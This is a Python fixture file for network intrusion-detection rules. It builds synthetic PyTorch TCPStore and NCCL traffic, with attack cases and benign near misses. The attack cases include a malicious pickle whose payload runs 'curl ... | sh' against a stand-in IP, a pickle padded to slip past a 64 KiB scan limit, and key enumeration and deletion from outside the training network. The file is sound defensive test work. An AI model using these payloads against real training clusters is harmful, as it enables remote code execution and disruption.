"""Fixtures of the distributed-training rules: PyTorch TCPStore and NCCL sockets."""

from __future__ import annotations

import pickle
import random
import struct

from inspector.lab.craft import Capture
from inspector.lab.ncclcaps import NET_SOCKET, SOCKET_MAGIC
from inspector.lab.rulecaps.fixture import OUTSIDE, RANK0, RANK1, TRAINING_NET, Fixture
from inspector.lab.tcpstorecaps import NEW, StoreWire
from inspector.lab.traffic_http import EPOCH
from inspector.lab.traffic_models import malicious_pickle
from inspector.lab.traffic_nccl import bootstrap_rank_info, raw_handshake
from inspector.lab.traffic_tcpstore import StoreSession, rendezvous_value

TRAINING = {"TRAINING_NETS": [TRAINING_NET]}
NCCL_ID_KEY = "default_pg/0//cuda//0"


def _store_reads(cap: Capture, rng: random.Random, client: str) -> None:
    session = StoreSession(cap, rng, client, RANK0)
    session.get("model/name", b"llama-3-8b")
    session.get("world_size", b"8")
    session.close()


def _rendezvous_state(attack: bool) -> bytes:
    """torch.rendezvous.<run> state as stored: base64 of a pickle reducing to os.system (attack) or
    of plain rendezvous data."""
    state = {"round": 3, "complete": True, "participants": {"10.30.0.11:1": 1, "10.30.0.12:1": 2}}
    pickled = malicious_pickle("curl -s http://203.0.113.66/r.sh | sh") if attack else pickle.dumps(state, protocol=2)
    return rendezvous_value(pickled)


def _rendezvous_write(cap: Capture, rng: random.Random, attack: bool) -> None:
    """A rank writes the rendezvous state."""
    session = StoreSession(cap, rng, RANK1, RANK0)
    session.set("torch.rendezvous.job42", _rendezvous_state(attack))
    session.close()


def _rendezvous_read(cap: Capture, rng: random.Random, attack: bool) -> None:
    """A rank reads the rendezvous state the server holds (planted by someone else: attack)."""
    session = StoreSession(cap, rng, RANK1, RANK0)
    session.get("torch.rendezvous.job42", _rendezvous_state(attack))
    session.close()


def _padded_pickle_write(cap: Capture, rng: random.Random, attack: bool) -> None:
    """A rank writes a pickle whose call to os.system comes after 70 KB of string it pops (attack);
    the near miss writes 70 KB of JSON and a small pickle of plain data."""
    session = StoreSession(cap, rng, RANK1, RANK0)
    if attack:
        padding = b"A" * 70_000
        padded = b"\x80\x04\x8d" + struct.pack("<Q", len(padding)) + padding + b"0" + malicious_pickle()[2:]
        session.set("torch.rendezvous.job42", padded)
    else:
        session.set("checkpoint/manifest", b'{"shards": "' + b"s" * 70_000 + b'"}')
        session.set("torch.rendezvous.job42", pickle.dumps({"round": 3}, protocol=4))
    session.close()


def _enumerate(cap: Capture, rng: random.Random, attack: bool) -> None:
    """LIST_KEYS and DELETE_KEY from outside, and a rank deleting the rendezvous state (attack); the
    near miss lists keys and deletes a barrier key from a rank, and reads a key from outside."""
    session = StoreSession(cap, rng, OUTSIDE if attack else RANK1, RANK0)
    session.list_keys(["/torch.rendezvous.job42", "/" + NCCL_ID_KEY])
    session.delete_key("barrier/epoch3")
    session.close()
    if attack:
        rank = StoreSession(cap, rng, RANK1, RANK0, start=EPOCH + 1)
        rank.delete_key("torch.rendezvous.job42")
        rank.close()
    else:
        reader = StoreSession(cap, rng, OUTSIDE, RANK0, start=EPOCH + 1)
        reader.get("model/name", b"llama-3-8b")
        reader.close()


def _unvalidated(cap: Capture, rng: random.Random, attack: bool) -> None:
    """A new-numbering client that skips VALIDATE and one that sends the wrong magic (attack); the near
    miss validates properly, then sends the same queries."""
    set_query = bytes([NEW["SET"]]) + StoreWire.string("/probe") + StoreWire.string("x")
    first = StoreSession(cap, rng, RANK1, RANK0, validate=not attack)
    first.query(set_query)
    first.close()
    second = StoreSession(cap, rng, RANK1, RANK0, start=EPOCH + 0.5, magic=0xDEADBEEF if attack else 0x3C85F7CE)
    second.query(set_query)
    second.close()


def _nccl_bootstrap(cap: Capture, rng: random.Random, rank_host: str) -> None:
    """A rank reports to the bootstrap root twice (two communicators, one dedup window)."""
    bootstrap_rank_info(cap, rng, rank_host, f"{RANK0}:40001", magic=0x4433221100EEFFC0)
    bootstrap_rank_info(cap, rng, rank_host, f"{RANK0}:40001", magic=0x5566778899AABBCC, start=EPOCH + 0.2)


def _nccl_type(cap: Capture, rng: random.Random, socket_type: int) -> None:
    raw_handshake(cap, rng, RANK1, f"{RANK0}:47001", socket_type=socket_type, magic=SOCKET_MAGIC, payload=b"\x00")


FIXTURES: dict[str, Fixture] = {
    "tcpstore_access_outside_training": Fixture(
        sid=3600001, positive=lambda c, r: _store_reads(c, r, OUTSIDE), negative=lambda c, r: _store_reads(c, r, RANK1),
        parsed=("tcpstore", 6, 6), config=TRAINING,
        notes="A torch-style client (VALIDATE, PING, WAIT+GET twice) from outside TRAINING_NETS: six queries, one "
              "alert (deduplicated per hour); the near miss is the same client on the training network."),
    "tcpstore_dangerous_pickle_value": Fixture(
        sid=3600002, positive=lambda c, r: _rendezvous_write(c, r, True),
        negative=lambda c, r: _rendezvous_write(c, r, False), parsed=("tcpstore", 3, 3),
        notes="SET torch.rendezvous.job42 to base64(pickle.dumps of an object reducing to os.system); the near "
              "miss stores base64 of a pickled dict of rendezvous state."),
    "tcpstore_pickle_not_fully_scanned": Fixture(
        sid=3600005, positive=lambda c, r: _padded_pickle_write(c, r, True),
        negative=lambda c, r: _padded_pickle_write(c, r, False), parsed=("tcpstore", 3, 4),
        notes="SET torch.rendezvous.job42 to a pickle that pushes and pops a 70 KB string before its os.system "
              "call (past the 64 KiB kept of a value); the near miss writes 70 KB of JSON and a small plain "
              "pickle."),
    "tcpstore_dangerous_pickle_reply": Fixture(
        sid=3600006, positive=lambda c, r: _rendezvous_read(c, r, True),
        negative=lambda c, r: _rendezvous_read(c, r, False), parsed=("tcpstore", 4, 4),
        notes="A rank reads torch.rendezvous.job42 (WAIT + GET) and the server answers base64 of a pickle "
              "reducing to os.system; the near miss answers base64 of a pickled dict of rendezvous state."),
    "tcpstore_enumeration_outside_training": Fixture(
        sid=3600003, positive=lambda c, r: _enumerate(c, r, True), negative=lambda c, r: _enumerate(c, r, False),
        parsed=("tcpstore", 7, 8), positive_count=3, config=TRAINING,
        notes="LIST_KEYS and DELETE_KEY from outside TRAINING_NETS, and a rank deleting torch.rendezvous.job42; "
              "the near miss lists keys and deletes a barrier key from a rank, and reads a key from outside."),
    "tcpstore_unvalidated_client": Fixture(
        sid=3600004, positive=lambda c, r: _unvalidated(c, r, True), negative=lambda c, r: _unvalidated(c, r, False),
        parsed=("tcpstore", 4, 6), positive_count=2,
        notes="A SET with no VALIDATE first, and a VALIDATE with magic 0xdeadbeef; the near miss validates with "
              "0x3c85f7ce before the same SET."),
    "nccl_outside_training_nets": Fixture(
        sid=3500001, positive=lambda c, r: _nccl_bootstrap(c, r, OUTSIDE),
        negative=lambda c, r: _nccl_bootstrap(c, r, RANK1), parsed=("nccl", 2, 2), config=TRAINING,
        notes="Two NCCL 2.23-style bootstrap connections (handshake + 172-byte rank info) from outside "
              "TRAINING_NETS to rank 0: one alert per host pair per hour; the near miss comes from rank 1."),
    "nccl_unknown_socket_type": Fixture(
        sid=3500002, positive=lambda c, r: _nccl_type(c, r, 7), negative=lambda c, r: _nccl_type(c, r, NET_SOCKET),
        parsed=("nccl", 1, 1),
        notes="NCCL_SOCKET_MAGIC followed by socket type 7; the near miss is a net-socket handshake (type 3)."),
}
